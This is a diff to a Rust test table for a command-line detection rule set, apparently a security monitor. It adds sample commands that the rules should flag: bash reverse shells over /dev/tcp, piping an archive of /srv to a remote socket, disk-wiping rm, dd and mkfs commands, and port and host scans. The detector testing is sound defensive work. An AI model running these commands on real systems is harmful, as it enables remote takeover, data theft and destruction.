@@ -24,8 +24,15 @@ fn titles(rules: &Indicators, example: &str) -> BTreeSet<String> {
 const EXAMPLES: &[(&str, &[&str], &str)] = &[
     (
         "Shell joined to a network socket by /dev/tcp",
-        &["/bin/bash bash -c cat </dev/tcp/10.0.0.1/80", "/usr/bin/gawk gawk BEGIN{s=\"/inet/tcp/0/h/80\"}"],
-        "/bin/ls ls /dev/tty",
+        &[
+            "/bin/bash bash -c cat </dev/tcp/10.0.0.1/80",
+            "/usr/bin/gawk gawk BEGIN{s=\"/inet/tcp/0/h/80\"}",
+            "/bin/bash bash -c bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
+            "/bin/bash bash -c exec 5<>/dev/tcp/h/80; cat <&5",
+            "/bin/bash bash -c echo > /dev/tcp/h/1; tar c /srv > /dev/tcp/h/2",
+            "/bin/bash bash -c D=/dev/tcp/h/80; sh 0<$D",
+        ],
+        "/bin/bash bash -c echo > /dev/tcp/db/5432 && echo open",
     ),
     (
         "What was fetched is run at once",
@@ -262,8 +269,14 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
     ),
     (
         "Data is wiped",
-        &["/bin/rm rm -rf /*", "/bin/dd dd if=/dev/zero of=/dev/sda", "/sbin/mkfs.ext4 mkfs.ext4 /dev/vda"],
-        "/bin/dd dd if=a of=/dev/null",
+        &[
+            "/bin/rm rm -rf /*",
+            "/bin/rm rm -fr --one-file-system /srv",
+            "/bin/sh sh -c rm -r /tmp/a /var/lib; echo done",
+            "/bin/dd dd if=/dev/zero of=/dev/sda",
+            "/sbin/mkfs.ext4 mkfs.ext4 /dev/vda",
+        ],
+        "/bin/rm rm -rf /var/lib/postgresql/copy",
     ),
     (
         "Data is encrypted",
@@ -335,8 +348,10 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         &[
             "/bin/nc nc -zv 10.0.0.1 1-1024",
             "/bin/bash bash -c for p in 22 80; do echo > /dev/tcp/h/$p; done",
+            "/bin/sh sh -c for h in 10.0.0.{1..9}; do ping -c 1 $h; done",
+            "/bin/sh sh -c for p in $(seq 1 99); do nc -z h $p; done",
         ],
-        "/bin/nc nc -zv 10.0.0.1 5432",
+        "/bin/bash bash -c for to in db/5432 mail/25; do echo > /dev/tcp/$to; done",
     ),
     (
         "A database is told to leave its tables",
